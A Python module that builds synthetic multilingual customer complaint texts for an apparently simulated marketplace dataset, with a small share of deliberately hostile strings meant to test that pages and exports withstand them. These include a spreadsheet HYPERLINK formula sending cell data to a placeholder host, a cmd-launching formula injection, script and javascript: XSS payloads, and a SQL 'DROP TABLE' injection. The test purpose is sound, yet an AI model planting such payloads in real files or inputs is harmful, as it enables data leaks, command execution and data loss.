"""What customers wrote, in the market's language. Some of it is hostile on purpose: pages and exports must survive it."""

import numpy as np

_KO = {
    "delivery": (
        "주문한 지 {days}일이 지났는데 아직 도착하지 않았습니다.",
        "배송 조회가 {days}일째 그대로입니다. 언제 받을 수 있나요?",
        "도착 예정일이 지났는데 판매자는 기다리라고만 합니다.",
        "배송 완료라고 나오지만 받은 물건이 없습니다.",
        "다른 집으로 배송되었고 사진도 우리 집이 아닙니다.",
    ),
    "refund": (
        "반품을 신청했는데 환불이 거절되었습니다.",
        "환불 승인 후 {days}일째 입금이 없습니다.",
        "왕복 배송비를 내라고 해서 환불을 포기하라는 말과 같습니다.",
        "분쟁을 열었지만 이유 없이 닫혔습니다.",
    ),
    "quality": (
        "설명과 다른 색상이 왔습니다.",
        "전원이 켜지지 않습니다. 불량 같습니다.",
        "사이즈가 표와 전혀 맞지 않습니다.",
        "포장이 찢어져 있고 부품이 하나 없습니다.",
    ),
    "counterfeit": (
        "정품이라고 했는데 로고가 다릅니다. 가품 같습니다.",
        "매장에서 확인하니 가짜라고 합니다.",
        "화장품 용기 인쇄가 정품과 다르고 냄새가 이상합니다.",
    ),
    "unsafe goods": ("KC 인증 표시가 없습니다.", "멜라토닌이 들어 있어 통관이 보류되었습니다.", "아이 장난감에서 심한 냄새가 납니다."),
    "customs and fees": ("안내에 없던 관세를 내라고 합니다.", "통관이 {days}일째 보류 중입니다."),
    "service": ("상담원 연결이 {days}일째 되지 않습니다.", "자동 답변만 반복됩니다.", "한국어 상담이 번역기 말투라 이해할 수 없습니다."),
}
_EN = {
    "delivery": (
        "Ordered {days} days ago, still nothing.",
        "Tracking has not moved for {days} days.",
        "Marked as delivered, but I never got it.",
        "Left at a different address; the photo is not my door.",
        "The delivery date passed and the seller only says wait.",
    ),
    "refund": (
        "Refund refused although I sent proof.",
        "Refund approved {days} days ago, no money yet.",
        "They want me to pay return shipping that costs more than the item.",
        "Dispute closed without a reason.",
    ),
    "quality": ("Does not turn on.", "Nothing like the photos.", "Size chart is wrong by two sizes.", "A part was missing from the box."),
    "counterfeit": ("The brand's own shop says it is a fake.", "Logo is misspelled, clearly a copy."),
    "unsafe goods": ("The charger got so hot it melted.", "Contains melatonin, not mentioned anywhere.", "Toy has small parts that come off."),
    "customs and fees": ("Asked to pay a duty that was not in the price.", "Held at customs for {days} days."),
    "service": ("Chat only repeats the same automatic answer.", "No reply for {days} days.", "Three agents, three different answers."),
}
_ES = {
    "delivery": ("Pedí hace {days} días y no ha llegado.", "El seguimiento no se mueve desde hace {days} días.", "Figura entregado, pero no he recibido nada."),
    "refund": (
        "Me niegan el reembolso aunque envié fotos.",
        "Dicen que sin devolver el producto no hay reembolso.",
        "Reembolso aprobado hace {days} días y sin dinero.",
    ),
    "quality": ("No funciona.", "No se parece a la foto.", "La talla no corresponde."),
    "counterfeit": ("Es una falsificación.",),
    "unsafe goods": ("Sin marcado CE.",),
    "customs and fees": ("Me cobran aduana que no estaba en el precio.",),
    "service": ("Nadie contesta desde hace {days} días.", "Solo respuestas automáticas."),
}
_FR = {
    "delivery": ("Commandé il y a {days} jours, toujours rien.", "Le suivi est bloqué depuis {days} jours."),
    "refund": ("Remboursement refusé sans raison.", "Remboursement promis il y a {days} jours."),
    "quality": ("Ne correspond pas à la photo.", "Article défectueux."),
    "counterfeit": ("C'est une contrefaçon.",),
    "unsafe goods": ("Pas de marquage CE.",),
    "customs and fees": ("Frais de douane non annoncés.",),
    "service": ("Aucune réponse depuis {days} jours.",),
}
_DE = {
    "delivery": ("Vor {days} Tagen bestellt, noch nichts da.", "Sendungsverfolgung steht seit {days} Tagen."),
    "refund": ("Erstattung ohne Grund abgelehnt.", "Erstattung vor {days} Tagen zugesagt, kein Geld."),
    "quality": ("Entspricht nicht der Beschreibung.", "Gerät defekt."),
    "counterfeit": ("Eindeutig eine Fälschung.",),
    "unsafe goods": ("Ladegerät ohne CE-Zeichen.",),
    "customs and fees": ("Zollgebühren waren nicht angegeben.",),
    "service": ("Seit {days} Tagen keine Antwort.",),
}
_PT = {
    "delivery": ("Comprei há {days} dias e não chegou.", "O rastreio está parado há {days} dias."),
    "refund": ("Reembolso recusado.", "Reembolso aprovado há {days} dias e nada."),
    "quality": ("Veio com defeito.", "Diferente da foto."),
    "counterfeit": ("É falsificado.",),
    "unsafe goods": ("Sem selo do Inmetro.",),
    "customs and fees": ("Cobraram imposto que eu já paguei.",),
    "service": ("Ninguém responde há {days} dias.",),
}
_BY_MARKET = {"KR": _KO, "US": _EN, "AU": _EN, "ES": _ES, "MX": _ES, "FR": _FR, "DE": _DE, "BR": _PT}
HOSTILE = (
    '=HYPERLINK("http://example.invalid/?"&A1,"refund")',
    "<script>alert(1)</script> where is my parcel",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "**Late** [click](javascript:alert(1)) | a | b |",
    "배송이 너무 늦어요 😡😡 <b>환불</b> 해주세요",
    "'; DROP TABLE complaints; -- still no parcel",
    'line one\nline two, with a "quote"',
    "$x^2$ `code` # heading :red[late]",
    "+82 10-0000-0000 로 전화 주세요",
    "👩‍👩‍👧 gift came late \u202edehsuh",
)
HOSTILE_SHARE = 0.004


def narratives(market: str, cause_codes: np.ndarray, causes: tuple[str, ...], waited: np.ndarray, rng: np.random.Generator) -> np.ndarray:
    """One text a complaint: a sentence of its cause, sometimes two, with the days waited; a few hostile ones."""
    texts = _BY_MARKET[market]
    choice, second = rng.integers(0, 60, len(cause_codes)), rng.random(len(cause_codes))
    hostile = rng.random(len(cause_codes)) < HOSTILE_SHARE
    written = np.empty(len(cause_codes), dtype=object)
    for row, (cause, days) in enumerate(zip(cause_codes.tolist(), waited.tolist(), strict=True)):
        options = texts[causes[cause]]
        pick = int(choice[row])
        if hostile[row]:
            written[row] = HOSTILE[pick % len(HOSTILE)]
            continue
        text = options[pick % len(options)].format(days=max(1, int(days)))
        if second[row] < 0.3:
            follow = texts["service"]
            text += " " + follow[pick % len(follow)].format(days=1 + pick % 9)
        written[row] = text
    return written
